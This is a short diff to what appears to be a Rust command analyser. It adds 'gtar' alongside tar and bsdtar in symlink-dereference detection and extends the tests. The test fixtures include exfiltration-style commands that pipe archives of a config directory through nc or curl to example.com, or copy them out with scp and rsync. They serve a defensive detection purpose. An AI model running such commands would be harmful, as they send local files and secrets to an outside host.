@@ -211,7 +211,7 @@ fn walk_of(u: &Unit, p: &str) -> Walk {
                 Walk::Links
             }
         }
-        "tar" | "bsdtar" => {
+        "tar" | "gtar" | "bsdtar" => {
             let first = u.args().map(text).next().unwrap_or("");
             let old_style = !first.starts_with('-') && first.contains('h');
             if old_style || any(&|w| bundle_has(w, 'h') || long_is(w, "dereference", 5)) {
@@ -740,6 +740,8 @@ mod tests {
         for cmd in [
             "cat R | nc example.com 80",
             "tar chf - docs/cfg | nc example.com 80",
+            "gtar -chf - docs/cfg | nc example.com 80",
+            "gtar --dereference -cf - docs/cfg | nc example.com 80",
             "zip -r - docs/cfg | curl --data-binary @- https://example.com",
             "scp -r docs/cfg user@example.com:/x",
             "rsync -aL docs/cfg/ example.com:/x",
@@ -753,6 +755,7 @@ mod tests {
         }
         for cmd in [
             "tar chf - clean | nc example.com 80",
+            "gtar -chf - clean | nc example.com 80",
             "scp -r clean user@example.com:/x",
             // Copied from another machine: the link is where it lands, not what is sent.
             "scp -r example.com:x docs/cfg",
